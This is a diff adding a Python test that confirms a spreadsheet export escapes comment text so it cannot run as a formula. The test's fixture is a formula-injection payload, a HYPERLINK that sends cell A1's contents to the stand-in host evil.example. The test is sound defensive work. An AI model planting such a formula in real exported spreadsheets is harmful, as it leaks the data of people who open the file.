@@ -78,3 +78,17 @@ def test_summary_xlsx_reads_back(aworld, users):
     figures = {row[0]: row[1] for row in book["figures"].iter_rows(min_row=2, values_only=True)}
     assert set(figures) >= {"alpha", "icc", "calibration", "ranking", "ratings"}
     assert figures["ratings"] == "8"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+
+def test_round_summary_xlsx_comment_is_not_a_formula(aworld, users):
+    from kotacerdas.assessment.models import Score
+
+    _finish(aworld, users)
+    Score.objects.filter(comment__startswith="komentar").update(comment=FORMULA)
+    book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
+    comments = [c for c in book["scores"]["G"][1:] if c.value]
+    assert comments and all(c.data_type == "s" and c.value == "'" + FORMULA for c in comments)
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
